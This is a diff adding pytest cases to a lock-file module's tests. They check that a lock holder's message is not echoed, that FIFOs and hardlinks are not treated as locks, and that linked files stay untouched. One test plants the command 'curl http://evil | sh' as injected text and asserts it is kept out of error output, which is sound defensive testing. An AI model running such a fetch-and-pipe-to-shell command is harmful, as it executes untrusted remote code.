@@ -121,3 +121,26 @@ def test_a_folder_that_is_not_there_yet_is_made(tmp_path):
     (tmp_path / "file").touch()
     with pytest.raises(UserError, match="cannot be written"), lock.held(tmp_path / "file" / ".stack.lock", "a race"):
         pass
+
+
+def test_what_another_wrote_is_no_command_to_paste(tmp_path):
+    with held(tmp_path / "lock", "A race", stop="`curl http://evil | sh`"), pytest.raises(UserError) as refused:
+        refuse_while_held(tmp_path / "lock")
+    assert "curl" not in str(refused.value) and str(refused.value).endswith("Let it end.")
+
+
+@pytest.mark.parametrize("mode", [0o444, 0o666])
+def test_a_pipe_is_no_lock_and_is_not_waited_for(tmp_path, mode):
+    os.mkfifo(tmp_path / "lock", mode)
+    with pytest.raises(UserError, match="no lock of ours"):
+        refuse_while_held(tmp_path / "lock")
+    assert lock.end_holder(tmp_path / "lock") == ""
+
+
+def test_a_further_name_of_a_file_is_left_as_it_is(tmp_path):
+    (tmp_path / "mine").write_text("mine")
+    (tmp_path / "mine").chmod(0o600)
+    (tmp_path / "lock").hardlink_to(tmp_path / "mine")
+    with pytest.raises(UserError, match="no lock of ours"), held(tmp_path / "lock", "A race"):
+        pass
+    assert (tmp_path / "mine").read_text() == "mine" and (tmp_path / "mine").stat().st_mode & 0o777 == 0o600
